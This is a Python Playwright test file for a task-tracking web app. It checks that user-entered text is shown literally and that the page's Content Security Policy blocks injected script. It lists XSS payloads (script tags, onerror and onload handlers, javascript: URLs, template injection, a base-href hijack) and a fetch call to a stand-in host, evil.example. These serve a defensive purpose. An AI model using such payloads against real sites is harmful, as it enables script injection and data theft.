"""Texts that would like to be a program stay texts."""

from playwright.async_api import Browser, expect

from tests.web.people import Person, until

HOSTILE = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "\"><svg onload=document.title='owned'>",
    "javascript:document.title='owned'",
    "{{constructor.constructor('document.title=1')()}} ${document.title='owned'}",
    "</li></ul></template><base href='//evil.example'>",
]


def tag(text: str) -> str:
    """Return as much of a text as a tag can be."""
    return text[:50].strip()


async def test_hostile_texts_are_shown_as_they_are(member: Person) -> None:
    await member.add(*HOSTILE)
    for text in HOSTILE:
        await member.edit(text, description=text, tags=tag(text))
    await member.everything_saved()
    await member.page.reload()
    await expect(member.titles).to_have_text(HOSTILE[::-1])
    await expect(member.page.locator("#rows .description")).to_have_text(HOSTILE[::-1])
    await expect(member.page.locator("#rows .tags")).to_have_text([f"Tags: {tag(text)}" for text in HOSTILE[::-1]])
    assert await member.page.title() == "Taskward"
    assert await member.page.locator("#rows").locator("img, script, svg, base").count() == 0


ATTACKS = [
    "document.body.innerHTML = '<p>'",
    "document.head.append(Object.assign(document.createElement('script'), { text: 'stolen()' }))",
    "fetch('http://evil.example')",
]


async def test_the_policy_would_stop_what_the_page_does_not_do(browser: Browser, service: str) -> None:
    page = await browser.new_page()
    await page.goto(service)
    await page.evaluate("window.stopped = 0; addEventListener('securitypolicyviolation', () => { stopped += 1 })")
    for number, attack in enumerate(ATTACKS, 1):
        name = await page.evaluate(f"(async () => {{ await ({attack}) }})().catch(({{ name }}) => name)")
        assert name == "TypeError", attack
        await until(page, f"() => stopped === {number}")
    await page.close()
